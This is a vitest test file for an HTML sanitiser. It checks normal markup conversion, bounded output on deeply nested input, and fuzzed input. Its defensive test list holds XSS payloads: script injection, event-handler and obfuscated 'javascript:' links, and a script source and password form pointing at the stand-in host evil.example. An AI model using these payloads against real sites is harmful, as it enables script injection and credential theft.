import fc from 'fast-check';
import { expect, test } from 'vitest';
import { richText } from '../../../src/contract/rich-text.js';
import { sanitise } from '../../../src/gateway/settings/sanitise-html.js';
import { runs } from '../../support/runs.js';

const p = (...children: unknown[]) => ({ tag: 'p', children });
const a = (href: string, ...children: unknown[]) => ({ tag: 'a', href, children });

test.each([
  ['', []],
  ['Plain text', ['Plain text']],
  ['1 < 2 & 3 > 2', ['1 < 2 & 3 > 2']],
  ['&lt;b&gt; &auml; &nbsp;', ['<b> ä \u00a0']],
  ['<p>One</p><p>Two</p>', [p('One'), p('Two')]],
  ['<p>Open<p>also open', [p('Open'), p('also open')]],
  ['a<br>b<br/>c', ['a', { tag: 'br' }, 'b', { tag: 'br' }, 'c']],
  [
    '<b>b</b><strong>s</strong>',
    [
      { tag: 'strong', children: ['b'] },
      { tag: 'strong', children: ['s'] },
    ],
  ],
  [
    '<i>i</i><em>e</em>',
    [
      { tag: 'em', children: ['i'] },
      { tag: 'em', children: ['e'] },
    ],
  ],
  [
    '<ul><li>1</li><li>2</li></ul>',
    [
      {
        tag: 'ul',
        children: [
          { tag: 'li', children: ['1'] },
          { tag: 'li', children: ['2'] },
        ],
      },
    ],
  ],
  ['<ol><li>1</li></ol>', [{ tag: 'ol', children: [{ tag: 'li', children: ['1'] }] }]],
  ['<h1>Title</h1><h6>Small</h6>', [p('Title'), p('Small')]],
  ['<div>Text</div>', [p('Text')]],
  ['<div><p>One</p><div>Two</div></div>', [p('One'), p('Two')]],
  ['<p></p><b></b><ul></ul>', []],
  ['<span style="color:red" onclick="x()">kept</span>', ['kept']],
  ['<table><tr><td>cell</td></tr></table>', ['cell']],
  ['<u>u</u><font color="red">f</font>', ['u', 'f']],
  ['<a href="https://example.org/x?y=1&amp;z=2#f">link</a>', [a('https://example.org/x?y=1&z=2#f', 'link')]],
  ['<a href="HTTP://example.org" target="_blank" rel="x">link</a>', [a('HTTP://example.org', 'link')]],
  ['<a href="mailto:help@example.org">mail</a>', [a('mailto:help@example.org', 'mail')]],
  ['<a href="https://example.org"></a>', []],
  ['<a>no address</a>', ['no address']],
])('%j becomes %j', (html, tree) => {
  expect(sanitise(html)).toEqual(tree);
});

test.each([
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<link rel=stylesheet href="https://evil.example">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<title></title><img src=x onerror=alert(1)>',
  '<textarea></textarea><script>alert(1)</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p onmouseover="alert(1)" style="x:expression(alert(1))" id=x class=y>text</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/path">x</a>',
  '<a href="#fragment">x</a>',
  '<a href="https://exa mple.org">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="blob:https://example.org/x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
])('%j leaves text and harmless elements only', (html) => {
  const tree = sanitise(html);
  expect(richText.safeParse(tree).success).toBe(true);
  expect(JSON.stringify(tree)).not.toMatch(/"(href|on\w+|style|src|id|class|srcdoc|action)"/);
  expect(JSON.stringify(tree)).not.toMatch(/"tag":"(?!(p|br)")/);
});

test('what scripts and style sheets say is not shown as text', () => {
  expect(sanitise('a<script>alert(1)</script>b<style>p{}</style>c')).toEqual(['a', 'b', 'c']);
});

const depth = (node: unknown): number =>
  Array.isArray(node)
    ? Math.max(0, ...node.map(depth))
    : typeof node === 'object' && node !== null && 'children' in node
      ? 1 + depth(node.children)
      : 0;
const count = (node: unknown): number =>
  Array.isArray(node)
    ? node.reduce<number>((sum, child) => sum + count(child), 0)
    : 1 + (typeof node === 'object' && node !== null && 'children' in node ? count(node.children) : 0);

test.each([
  ['<b>'.repeat(20_000) + 'deep'],
  ['<ul><li>'.repeat(5000) + 'deep'],
  ['<div>'.repeat(100_000)],
  ['<p>x</p>'.repeat(50_000)],
  ['<br>'.repeat(100_000)],
  ['<p><b><i>'.repeat(2000)],
  ['x'.repeat(1_000_000)],
  ['<a href="https://example.org/'.concat('a'.repeat(3000), '">long</a>')],
])('markup without measure is bounded (%#)', (html) => {
  const tree = sanitise(html);
  expect(depth(tree)).toBeLessThanOrEqual(20);
  expect(count(tree)).toBeLessThanOrEqual(2000);
  expect(JSON.stringify(tree).length).toBeLessThan(120_000);
  expect(richText.safeParse(tree).success).toBe(true);
});

test('text that was written within the depth stays readable beyond it', () => {
  expect(JSON.stringify(sanitise(`${'<b>'.repeat(60)}terms`))).toContain('terms');
});

test('whatever is written, the tree is one of the contract', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      '<p>',
      '</p>',
      '<b>',
      '</b>',
      '<ul>',
      '<li>',
      '</ul>',
      '<a href="',
      'https://e.org',
      'javascript:x',
      '">',
      '</a>',
      '<script>',
      '</script>',
      '<!--',
      '-->',
      '<svg>',
      '<br',
      '&',
      '&#x0;',
      '<table>',
      '<tr>',
      '\u0000',
      '<template>',
    ),
    fc.string({ maxLength: 8, unit: 'binary' }),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      const tree = sanitise(pieces.join(''));
      expect(richText.safeParse(tree).success).toBe(true);
      expect(JSON.stringify(tree)).not.toMatch(/"href":"(?!https?:|mailto:)/i);
    }),
    runs(200),
  );
});

test.each([
  '',
  '   ',
  '<p> </p>',
  '<div>&nbsp;<br></div>',
  '<ul><li>\u200b</li></ul>',
  '<a href="https://example.org"> </a>',
])('%j has nothing to read and is an empty tree', (html) => {
  expect(sanitise(html)).toEqual([]);
});
